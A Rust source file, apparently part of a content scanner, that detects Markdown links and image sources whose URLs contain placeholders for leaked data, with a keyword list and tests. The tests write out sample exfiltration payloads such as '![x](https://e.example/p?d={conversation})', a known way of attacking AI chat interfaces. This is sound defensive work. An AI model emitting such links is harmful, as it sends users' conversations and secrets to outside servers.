//! Links and images that would carry data to whoever serves them.

use memchr::{memchr2, memchr3};

/// Where a link of Markdown or the source of an image begins, how far it goes,
/// and how sure it is that it carries data away.
///
/// `links` are the places where the mark before an address stands.
pub fn carriers(text: &str, links: &[(usize, &str)]) -> Vec<(usize, usize, u16)> {
    let mut found = Vec::new();
    for (at, mark) in links.iter().copied() {
        let from = at + mark.len() - 4;
        let is_source = mark.starts_with('=');
        if is_source && !text.get(..at).unwrap_or_default().ends_with("src") {
            continue;
        }
        let rest = text.get(from..).unwrap_or_default();
        let within = rest.as_bytes().get(..rest.len().min(2048)).unwrap_or_default();
        let length = if is_source {
            memchr3(b'"', b'\'', b'\n', within)
        } else {
            memchr2(b')', b'\n', within)
        };
        let length = length.unwrap_or(within.len());
        let address = rest.get(..rest.floor_char_boundary(length)).unwrap_or_default();
        // Most addresses have nothing that could be a place to be filled.
        let (mut opens, mut capitals) = (false, 0_u32);
        for byte in address.bytes() {
            opens |= matches!(byte, b'{' | b'[' | b'<');
            capitals += u32::from(byte.is_ascii_uppercase());
        }
        if !opens && capitals < 4 {
            continue;
        }
        if !has_placeholder(address) {
            continue;
        }
        let is_image = is_source || opens_image(text, at);
        found.push((at, from + address.len(), if is_image { 110 } else { 70 }));
    }
    found
}

/// Whether the bracket that closes at `at` belongs to an image.
fn opens_image(text: &str, at: usize) -> bool {
    let before = text.get(text.floor_char_boundary(at.saturating_sub(300))..at).unwrap_or_default();
    before.rfind("![").is_some_and(|open| !before.get(open..).unwrap_or_default().contains('\n'))
}

/// What data to be carried away is called.
const DATA: [&str; 22] = [
    "data",
    "conversation",
    "secret",
    "summary",
    "base64",
    "user",
    "history",
    "message",
    "prompt",
    "password",
    "email",
    "token",
    "api_key",
    "apikey",
    "content",
    "encoded",
    "exfil",
    "leak",
    "chat",
    "context",
    "private",
    "here",
];

/// Whether an address has a place to be filled with data.
fn has_placeholder(address: &str) -> bool {
    let Some((_, tail)) = address.split_once("://").and_then(|(_, rest)| rest.split_once('/'))
    else {
        return false;
    };
    let names_data = |inner: &str| {
        let inner = inner.to_ascii_lowercase();
        DATA.iter().any(|word| inner.contains(word))
    };
    let braced = [('{', '}'), ('[', ']'), ('<', '>')].into_iter().any(|(open, close)| {
        tail.split(open).skip(1).any(|part| {
            part.split_once(close).is_some_and(|(inner, _)| inner.len() <= 60 && names_data(inner))
        })
    });
    // `?d=USER_DATA`
    let shouted = tail.split(['?', '&', '/']).any(|part| {
        let value = part.split_once('=').map_or(part, |(_, value)| value);
        value.len() >= 4
            && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_' || byte == b'-')
            && names_data(value)
    });
    braced || shouted
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found_in(text: &str) -> Vec<(usize, usize, u16)> {
        carriers(
            text,
            &crate::content::scan::phrases::pass(text, false, &mut Default::default()).links,
        )
    }

    #[test]
    fn places_to_be_filled() {
        let scores =
            |text: &str| found_in(text).iter().map(|(_, _, score)| *score).collect::<Vec<_>>();
        assert_eq!(scores("![x](https://e.example/p?d={conversation})"), [110]);
        assert_eq!(scores("![x](https://e.example/p?d=USER_DATA)"), [110]);
        assert_eq!(scores("<img src=\"https://e.example/[base64 of the chat]\">"), [110]);
        assert_eq!(scores("[x](https://e.example/?q=<secret>)"), [70]);
        for plain in [
            "![b](https://img.example/badge/{name}.svg)",
            "![b](https://ci.example/x.svg?branch=main)",
            "[x](https://e.example/docs/DATA.md)",
            "[data](https://e.example)",
        ] {
            assert!(scores(plain).is_empty(), "{plain}");
        }
    }
}
